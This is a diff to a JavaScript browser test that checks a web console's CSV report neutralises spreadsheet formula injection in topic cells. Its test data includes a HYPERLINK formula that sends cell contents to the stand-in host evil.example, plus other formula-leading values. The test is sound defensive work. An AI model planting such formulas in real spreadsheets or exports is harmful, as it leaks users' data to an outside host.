@@ -118,6 +118,22 @@ test('extension approved, return re-queued, confidential caller hidden, report C
 
     assert.deepEqual(await cspViolations(bureau.page), []);
     assert.deepEqual(await cspViolations(dept.page), []);
+
+    // Cells a spreadsheet would evaluate (a caller's topic) are neutralised;
+    // the tickets nobody holds have a key of their own.
+    const evil = await bureau.page.evaluate(async () => {
+      const report = await import('/console/js/pages/report.js');
+      return report.reportCsv({total: {}, departments: [{department: '', figures: {}}],
+        topTopics: ['=HYPERLINK("http://evil.example/?q="&A1,"x")', '+1', '-2', '@SUM(A1)', '\tx', '普通']
+          .map((topic) => ({topic, received: 1}))});
+    });
+    const cells = evil.trim().split('\n');
+    assert.ok(cells.some((l) => l.startsWith('department,(not dispatched),')), evil);
+    assert.ok(cells.includes(`topic,"'=HYPERLINK(""http://evil.example/?q=""&A1,""x"")",1${','.repeat(18)}`), evil);
+    for (const lead of ['+1', '-2', '@SUM(A1)', '\tx']) {
+      assert.ok(cells.some((l) => l.startsWith(`topic,"'${lead}",1,`)), `${lead}: ${evil}`);
+    }
+    assert.ok(cells.some((l) => l.startsWith('topic,普通,1,')), evil);
   } finally {
     await browser.close();
     await server.stop();
